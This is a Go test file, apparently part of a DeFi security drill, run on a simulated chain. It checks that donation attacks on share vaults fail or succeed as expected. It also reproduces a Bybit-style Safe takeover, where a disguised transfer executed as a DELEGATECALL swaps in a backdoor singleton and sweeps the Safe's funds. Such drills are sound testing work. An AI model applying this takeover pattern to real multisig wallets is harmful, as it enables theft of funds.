		t.Errorf("strategy() = %s after the upgrade, want %s", got, d.strategy)
	}
	d.donationAttackFails("donation attack on upgraded ShareVaultV2", a, inst, "invest: share price manipulated")
}

func TestDonationAttackV2(t *testing.T) {
	d := newDonationDrill(t, "ShareVaultV2", ShareVaultV2MetaData.Bin)
	a, inst := d.deployDonationAttacker()
	d.donationAttackFails("donation attack on ShareVaultV2", a, inst, "invest: share price manipulated")

	// An honest invest() on the empty strategy mints shares 1:1.
	vinst := d.sv.Instance(d.client, d.vault)
	r := d.send("invest", vinst, d.opts(d.keeper, nil), d.sv.PackInvest())
	var invested *ShareVaultV1Invested
	for _, l := range r.Logs {
		if ev, err := d.sv.UnpackInvestedEvent(l); err == nil && l.Address == d.vault {
			invested = ev
		}
	}
	if invested == nil || invested.Amount.Cmp(ether(11)) != 0 || invested.Shares.Cmp(ether(11)) != 0 {
		t.Errorf("Invested event %+v, want (11 ether, 11e18 shares)", invested)
	}
	if got := d.vaultUint(d.sv.PackStrategyShares(), d.sv.UnpackStrategyShares); got.Cmp(ether(11)) != 0 {
		t.Errorf("strategyShares = %s, want 11e18", got)
	}
	if got := d.vaultUint(d.sv.PackStrategyAssets(), d.sv.UnpackStrategyAssets); got.Cmp(ether(11)) != 0 {
		t.Errorf("strategyAssets = %s, want 11 ether", got)
	}
	if got := d.balance(d.vault); got.Cmp(ether(119)) != 0 {
		t.Errorf("vault holds %s, want 119 ether", got)
	}
	if got := d.strategyUint(d.ss.PackBalanceOf(d.vault), d.ss.UnpackBalanceOf); got.Cmp(ether(11)) != 0 {
		t.Errorf("strategy balanceOf(vault) = %s, want 11e18", got)
	}
	// The strategy is no longer empty: the first-depositor trick is gone.
	d.donationAttackFails("donation attack on an invested strategy", a, inst, "strategy not empty")

	// invest() stops at the withdrawal buffer, a fifth of the deposits
	// (26 ether): 8 more chunks of 11 ether take the vault to 31, a last
	// invest() moves the 5 ether above the buffer, then there is nothing.
	for range 8 {
		d.send("invest", vinst, d.opts(d.keeper, nil), d.sv.PackInvest())
	}
	r = d.send("invest", vinst, d.opts(d.keeper, nil), d.sv.PackInvest())
	invested = nil
	for _, l := range r.Logs {
		if ev, err := d.sv.UnpackInvestedEvent(l); err == nil && l.Address == d.vault {
			invested = ev
		}
	}
	if invested == nil || invested.Amount.Cmp(ether(5)) != 0 || invested.Shares.Cmp(ether(5)) != 0 {
		t.Errorf("last Invested event %+v, want (5 ether, 5e18 shares)", invested)
	}
	if got := d.balance(d.vault); got.Cmp(ether(26)) != 0 {
		t.Errorf("vault holds %s after investing down to the buffer, want 26 ether", got)
	}
	if got := d.dryRunRevert("invest at the buffer", d.keeper.addr, d.vault, nil, d.sv.PackInvest()); got != "nothing to invest" {
		t.Errorf("invest at the buffer reverted with %q", got)
	}
}

func TestDonationAttackSmallSteps(t *testing.T) {
	d := newDonationDrill(t, "ShareVaultV2SmallSteps", ShareVaultV2SmallStepsMetaData.Bin)
	if got := d.vaultUint(d.sv.PackINVESTCHUNK(), d.sv.UnpackINVESTCHUNK); got.Cmp(ether(2)) != 0 {
		t.Fatalf("INVEST_CHUNK = %s, want 2 ether", got)
	}
	a, inst := d.deployDonationAttacker()
	d.donationAttackWorks("donation attack on ShareVaultV2SmallSteps", a, inst, ether(2))
	if got := d.balance(d.vault); got.Cmp(ether(128)) != 0 {
		t.Errorf("vault holds %s, want 128 ether", got)
	}
}

// ---------------------------------------------------------------------------
// The malicious Safe transaction (Bybit 2025).

// safeTxSignatures signs the Safe transaction {to, 0 value, data, operation,
// no refund} at the Safe's current nonce by each signer, sorted by address.
func safeTxSignatures(t *testing.T, c *simChain, safe *Safe, safeInst *bind.BoundContract, to common.Address, data []byte, operation uint8, signers ...account) []byte {
	t.Helper()
	nonce := call(c, safeInst, safe.PackNonce(), safe.UnpackNonce)
	hash := call(c, safeInst, safe.PackGetTransactionHash(to, new(big.Int), data, operation, new(big.Int), new(big.Int), new(big.Int), common.Address{}, common.Address{}, nonce), safe.UnpackGetTransactionHash)
	signers = slices.Clone(signers)
	slices.SortFunc(signers, func(a, b account) int { return a.addr.Cmp(b.addr) })
	var sigs []byte
	for _, s := range signers {
		sig, err := crypto.Sign(hash[:], s.key)
		if err != nil {
			t.Fatal(err)
		}
		sig[64] += 27
		sigs = append(sigs, sig...)
	}
	return sigs
}

func TestSafeUpgradeTrap(t *testing.T) {
	deployer, owner, attacker, stranger := newAccount(t), newAccount(t), newAccount(t), newAccount(t)
	c := newSimChain(t, deployer, owner, attacker, stranger)

	// A 1-of-1 Safe 1.4.1 holding 10 ETH and 500 DCOL.
	singleton := c.deploy("Safe", deployer, SafeMetaData.Bin, nil)
	factoryAddr := c.deploy("SafeProxyFactory", deployer, SafeProxyFactoryMetaData.Bin, nil)
	handler := c.deploy("CompatibilityFallbackHandler", deployer, CompatibilityFallbackHandlerMetaData.Bin, nil)
	safe, factory := NewSafe(), NewSafeProxyFactory()
	setup := safe.PackSetup([]common.Address{owner.addr}, big.NewInt(1), common.Address{}, nil, handler, common.Address{}, new(big.Int), common.Address{})
	r := c.send("createProxyWithNonce", factory.Instance(c.client, factoryAddr), c.opts(deployer, nil), factory.PackCreateProxyWithNonce(singleton, setup, big.NewInt(7)))
	var safeAddr common.Address
	for _, l := range r.Logs {
		if ev, err := factory.UnpackProxyCreationEvent(l); err == nil && l.Address == factoryAddr {
			safeAddr = ev.Proxy
		}
	}
	if safeAddr == (common.Address{}) {
		t.Fatal("no ProxyCreation event")
	}
	safeInst := safe.Instance(c.client, safeAddr)
	c.transfer("fund the Safe", deployer, safeAddr, ether(10))
	dcol := NewDrillToken()
	token := c.deploy("DrillToken", deployer, DrillTokenMetaData.Bin, dcol.PackConstructor(ether(1000)))
	tokenInst := dcol.Instance(c.client, token)
	c.send("give the Safe DCOL", tokenInst, c.opts(deployer, nil), dcol.PackTransfer(safeAddr, ether(500)))

	// The attacker's two contracts.
	trapBinding, backdoorBinding := NewSafeUpgradeTrap(), NewBackdoorSingleton()
	trap := c.deploy("SafeUpgradeTrap", attacker, SafeUpgradeTrapMetaData.Bin, nil)
	backdoor := c.deploy("BackdoorSingleton", attacker, BackdoorSingletonMetaData.Bin, backdoorBinding.PackConstructor(attacker.addr))
	if got := call(c, backdoorBinding.Instance(c.client, backdoor), backdoorBinding.PackAttacker(), backdoorBinding.UnpackAttacker); got != attacker.addr {
		t.Fatalf("attacker() = %s, want %s", got, attacker.addr)
	}
	data := trapBinding.PackTransfer(backdoor, new(big.Int))
	if sel := data[:4]; common.Bytes2Hex(sel) != "a9059cbb" {
		t.Fatalf("trap transfer selector %x, want ERC-20's a9059cbb", sel)
	}

	exec := func(what string, operation uint8) *types.Receipt {
		t.Helper()
		sigs := safeTxSignatures(t, c, safe, safeInst, trap, data, operation, owner)
		r := c.send(what, safeInst, c.opts(owner, nil),
			safe.PackExecTransaction(trap, new(big.Int), data, operation, new(big.Int), new(big.Int), new(big.Int), common.Address{}, common.Address{}, sigs))
		var ok bool
		for _, l := range r.Logs {
			if _, err := safe.UnpackExecutionSuccessEvent(l); err == nil && l.Address == safeAddr {
				ok = true
			}
		}
		if !ok {
			t.Fatalf("%s: no ExecutionSuccess event", what)
		}
		return r
	}

	// As a CALL the "transfer" is harmless: it writes the trap's own slot 0.
	exec("execTransaction as CALL", 0)
	if got := c.storageAddress(safeAddr, common.Hash{}); got != singleton {
		t.Fatalf("Safe slot 0 = %s after the CALL, want the singleton %s", got, singleton)
	}
	if got := c.storageAddress(trap, common.Hash{}); got != backdoor {
		t.Errorf("trap slot 0 = %s after the CALL, want %s", got, backdoor)
	}

	// As a DELEGATECALL it replaces the Safe's singleton.
	r = exec("execTransaction as DELEGATECALL", 1)
	t.Logf("malicious execTransaction (DELEGATECALL): gas used %d", r.GasUsed)
	if got := c.storageAddress(safeAddr, common.Hash{}); got != backdoor {
		t.Fatalf("Safe slot 0 = %s after the DELEGATECALL, want the backdoor %s", got, backdoor)
	}
	// The Safe is no longer a Safe: its own functions are gone.
	if _, err := bind.Call(safeInst, nil, safe.PackGetOwners(), safe.UnpackGetOwners); err == nil {
		t.Error("getOwners() still answers after the takeover")
	}

	// Only the attacker may sweep, through the Safe's own address.
	bd := backdoorBinding.Instance(c.client, safeAddr)
	if got := c.dryRunRevert("sweepETH by a stranger", stranger.addr, safeAddr, nil, backdoorBinding.PackSweepETH(stranger.addr)); got != "not the attacker" {
		t.Errorf("sweepETH by a stranger reverted with %q", got)
	}
	c.sendReverts("sweepETH by a stranger", bd, c.opts(stranger, nil), backdoorBinding.PackSweepETH(stranger.addr))
	c.sendReverts("sweepETH by the owner", bd, c.opts(owner, nil), backdoorBinding.PackSweepETH(owner.addr))
	if got := c.balance(safeAddr); got.Cmp(ether(10)) != 0 {
		t.Fatalf("Safe holds %s after the refused sweeps, want 10 ether", got)
	}

	before := c.balance(attacker.addr)
	r = c.send("sweepETH", bd, c.opts(attacker, nil), backdoorBinding.PackSweepETH(attacker.addr))
	t.Logf("sweepETH through the Safe: gas used %d", r.GasUsed)
	wantBalanceChange(t, "attacker", before, c.balance(attacker.addr), new(big.Int).Sub(ether(10), fee(r)))
	if got := c.balance(safeAddr); got.Sign() != 0 {
		t.Errorf("Safe holds %s after the sweep, want 0", got)
	}
	var swept *BackdoorSingletonSwept
	for _, l := range r.Logs {
		if ev, err := backdoorBinding.UnpackSweptEvent(l); err == nil && l.Address == safeAddr {
			swept = ev
		}
	}
	if swept == nil || swept.Token != (common.Address{}) || swept.To != attacker.addr || swept.Amount.Cmp(ether(10)) != 0 {
		t.Errorf("Swept event %+v, want (ETH, attacker, 10 ether) from the Safe's address", swept)
	}

	c.sendReverts("sweepERC20 by a stranger", bd, c.opts(stranger, nil), backdoorBinding.PackSweepERC20(token, stranger.addr))
	c.send("sweepERC20", bd, c.opts(attacker, nil), backdoorBinding.PackSweepERC20(token, attacker.addr))
	if got := call(c, tokenInst, dcol.PackBalanceOf(attacker.addr), dcol.UnpackBalanceOf); got.Cmp(ether(500)) != 0 {
		t.Errorf("attacker holds %s DCOL after sweepERC20, want 500e18", got)
	}
	if got := call(c, tokenInst, dcol.PackBalanceOf(safeAddr), dcol.UnpackBalanceOf); got.Sign() != 0 {
		t.Errorf("Safe holds %s DCOL after sweepERC20, want 0", got)
	}
}

// ---------------------------------------------------------------------------
// Layouts and interfaces.

// TestDeFiVaultLayouts checks that each fix keeps its vault's storage layout
// exactly (same variables, slots and types), and that every drill vault
// answers IPausable.
func TestDeFiVaultLayouts(t *testing.T) {
	iface := MustLoad(IPausableName).ABI
	for _, family := range []struct {
		names []string
		want  []struct{ label, slot, typ string }
	}{
		{
			[]string{LendingVaultV1Name, LendingVaultV2Name, LendingVaultV2BorrowCapName},
			[]struct{ label, slot, typ string }{
				{"_roles", "0", "mapping(bytes32 => struct AccessControl.RoleData)"},
				{"_paused", "1", "bool"},
				{"balances", "2", "mapping(address => uint256)"},
				{"totalDeposits", "3", "uint256"},
				{"collateralToken", "4", "contract IERC20"},
				{"pricePool", "5", "contract SpotPool"},
				{"collateral", "6", "mapping(address => uint256)"},
				{"debt", "7", "mapping(address => uint256)"},
			},
		},
		{
			[]string{ShareVaultV1Name, ShareVaultV2Name, ShareVaultV2SmallStepsName},
			[]struct{ label, slot, typ string }{
				{"_roles", "0", "mapping(bytes32 => struct AccessControl.RoleData)"},
				{"_paused", "1", "bool"},
				{"balances", "2", "mapping(address => uint256)"},
				{"totalDeposits", "3", "uint256"},
				{"strategy", "4", "contract StrategyShares"},
				{"strategyShares", "5", "uint256"},
			},
		},
	} {
		for _, name := range family.names {
			a := MustLoad(name)
			if len(a.StorageLayout.Storage) != len(family.want) {
				t.Errorf("%s has %d storage variables, want %d", name, len(a.StorageLayout.Storage), len(family.want))
			}
			for i, v := range a.StorageLayout.Storage {
				if i >= len(family.want) {
					break
				}
				w := family.want[i]
				if v.Label != w.label || v.Slot != w.slot || v.Offset != 0 || a.StorageLayout.Types[v.Type].Label != w.typ {
					t.Errorf("%s variable %d: %s %s at slot %s+%d, want %s %s at slot %s", name, i,
						a.StorageLayout.Types[v.Type].Label, v.Label, v.Slot, v.Offset, w.typ, w.label, w.slot)
				}
			}
			for _, m := range iface.Methods {
				if vm, ok := a.ABI.Methods[m.Name]; !ok || string(vm.ID) != string(m.ID) {
					t.Errorf("%s does not implement IPausable.%s", name, m.Sig)
				}
			}
			if len(a.ImmutableReferences) != 1 {
				t.Errorf("%s has %d immutables, want 1 (UUPSUpgradeable.__self)", name, len(a.ImmutableReferences))
			}
		}
	}

	b := MustLoad(BackdoorSingletonName)
	if len(b.StorageLayout.Storage) != 1 || b.StorageLayout.Storage[0].Label != "masterCopy" || b.StorageLayout.Storage[0].Slot != "0" {
		t.Errorf("BackdoorSingleton storage %+v, want only masterCopy at slot 0", b.StorageLayout.Storage)
	}
	if len(b.ImmutableReferences) != 1 {
		t.Errorf("BackdoorSingleton has %d immutables, want 1 (attacker)", len(b.ImmutableReferences))
	}
	if len(MustLoad(SafeUpgradeTrapName).StorageLayout.Storage) != 0 {
		t.Error("SafeUpgradeTrap declares storage; it must only write slot 0 by assembly")
	}
	// The flash-loan callback keeps ERC-3156's selector.
	for _, name := range []string{OracleAttackerName, DonationAttackerName} {
		if m, ok := MustLoad(name).ABI.Methods["onFlashLoan"]; !ok || common.Bytes2Hex(m.ID) != "23e30c8b" {
			t.Errorf("%s.onFlashLoan selector %x, want 23e30c8b", name, m.ID)
		}
	}
}
